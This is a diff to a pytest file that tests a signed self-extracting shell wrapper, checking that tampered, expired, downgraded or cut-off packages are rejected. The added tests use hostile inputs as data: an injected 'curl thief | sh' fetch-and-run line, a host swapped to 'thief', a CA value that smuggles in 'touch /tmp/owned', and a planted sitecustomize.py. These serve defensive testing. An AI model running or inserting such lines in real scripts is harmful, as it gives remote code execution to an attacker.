@@ -86,7 +86,9 @@ def test_an_altered_one_does_not_start(archive: bytes, key: ReleaseKey, tmp_path
 
 
 @attack("man in the middle", "sends a pilot of another key, of old, or older than allowed")
-@pytest.mark.parametrize(("what", "code"), [("another key", 22), ("expired", 24), ("downgraded", 25), ("older than allowed", 25)])
+@pytest.mark.parametrize(
+    ("what", "code"), [("another key", 22), ("expired", 24), ("downgraded", 25), ("older than allowed", 25), ("no version", 25)]
+)
 def test_a_foreign_an_old_and_an_older_one_do_not_start(
     archive: bytes, key: ReleaseKey, tmp_path: Path, what: str, code: int
 ) -> None:
@@ -98,6 +100,7 @@ def test_a_foreign_an_old_and_an_older_one_do_not_start(
         "expired": (wrap(archive, key, addresses={}, lives=timedelta(seconds=-1)), {}),
         "downgraded": (wrap(archive, key, addresses={}, version="2025.12.9"), {}),
         "older than allowed": (wrap(archive, key, addresses={}), {"PILOTBUS_LEAST_VERSION": "2026.2.0"}),
+        "no version": (wrap(archive, key, addresses={}), {"PILOTBUS_LEAST_VERSION": "nonsense"}),
     }
     script, environment = made[what]
     done = run(script, tmp_path, **environment)
@@ -113,7 +116,7 @@ def test_a_node_that_can_not_check_or_run_it_is_told(
 ) -> None:
     tools = tmp_path / "bin"
     tools.mkdir()
-    for name in ("sh", "mktemp", "rm", "cat", "sed", "sort", "head", "cut", "date", "openssl"):
+    for name in ("sh", "mktemp", "rm", "cat", "sed", "sort", "head", "cut", "grep", "date", "openssl"):
         if name != without:
             (tools / name).symlink_to(Path("/usr/bin") / name)
     script = wrap(archive, key, addresses={}).replace(" /usr/bin/python3 ", " ")
@@ -169,6 +172,32 @@ def test_a_wrapper_says_what_it_carries(archive: bytes, key: ReleaseKey) -> None
 def test_no_address_gets_out_of_its_quotes(archive: bytes, key: ReleaseKey, address: str) -> None:
     with pytest.raises(Invalid):
         wrap(archive, key, addresses={"--url": address})
+
+
+def test_altered_lines_around_the_pilot_are_found_by_who_verifies(archive: bytes, key: ReleaseKey) -> None:
+    script = wrap(archive, key, addresses={"--url": "amqps://host:5671/v"})
+    for old, new in (("amqps://host", "amqps://thief"), ("umask 077\n", "umask 077\ncurl thief | sh\n"), ("-lt", "-ne")):
+        with pytest.raises(Invalid, match="around the pilot"):
+            verify(script.replace(old, new, 1), key.public())
+
+
+def test_a_script_that_was_cut_off_runs_nothing(archive: bytes, key: ReleaseKey, tmp_path: Path) -> None:
+    script = wrap(archive, key, addresses={})
+    for share in (0.3, 0.6, 0.95):
+        cut = script.partition("\n__PILOTBUS_ZIP__\n")[0]
+        done = run(cut[: int(len(cut) * share)], tmp_path)
+        assert (done.returncode != 0, done.stdout) == (True, ""), share
+
+
+def test_nothing_of_the_nodes_python_runs_before_the_pilot(archive: bytes, key: ReleaseKey, tmp_path: Path) -> None:
+    (tmp_path / "sitecustomize.py").write_text("print('first')")
+    done = run(wrap(archive, key, addresses={}), tmp_path, PYTHONPATH=str(tmp_path))
+    assert (done.returncode, "first" in done.stdout) == (0, False)
+
+
+def test_an_authority_can_not_end_its_own_block(archive: bytes, key: ReleaseKey) -> None:
+    with pytest.raises(Invalid):
+        wrap(archive, key, addresses={}, ca="x\nPILOTBUS_END\ntouch /tmp/owned\n")
 
 
 @pytest.mark.parametrize("text", ["", "#!/bin/sh\n", "x\n__PILOTBUS_ZIP__\ny", "\x00"])
